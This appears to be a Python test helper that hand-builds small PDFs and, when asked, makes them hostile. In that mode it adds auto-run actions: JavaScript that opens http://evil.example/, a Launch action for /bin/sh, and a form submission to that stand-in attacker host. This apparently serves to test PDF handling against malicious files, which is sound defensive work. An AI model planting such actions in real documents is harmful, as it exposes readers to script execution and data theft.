"""Small PDFs, written by hand: pages of words, and what a hostile author puts beside them."""


def pdf(*pages: str, hostile: bool = False) -> bytes:
    """Return a PDF with these words, a page each; a hostile one also wants to run scripts and start programs."""
    actions = [
        "<< /S /JavaScript /JS (app.alert\\(1\\); this.print\\(\\); app.launchURL\\('http://evil.example/'\\)) >>",
        "<< /S /Launch /F (/bin/sh) >>",
        "<< /S /SubmitForm /F (http://evil.example/) >>",
    ]
    extra = f"/OpenAction {actions[0]} /AA << /WC {actions[0]} /WS {actions[1]} >>" if hostile else ""
    on_page = f"/AA << /O {actions[0]} /C {actions[2]} >>" if hostile else ""
    font = 3
    kids = [4 + 2 * place for place in range(len(pages))]
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {extra} >>",
        2: f"<< /Type /Pages /Count {len(pages)} /Kids [{' '.join(f'{kid} 0 R' for kid in kids)}] >>",
        font: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    for kid, words in zip(kids, pages, strict=True):
        content = f"BT /F1 24 Tf 60 700 Td ({words}) Tj ET"
        objects[kid] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {kid + 1} 0 R {on_page} "
            f"/Resources << /Font << /F1 {font} 0 R >> >> >>"
        )
        objects[kid + 1] = f"<< /Length {len(content)} >>\nstream\n{content}\nendstream"
    return _written(objects)


def _written(objects: dict[int, str]) -> bytes:
    made, places = b"%PDF-1.7\n", []
    for number, body in sorted(objects.items()):
        places.append(len(made))
        made += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n"
    return made + f"{end}<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(made)}\n%%EOF\n".encode()
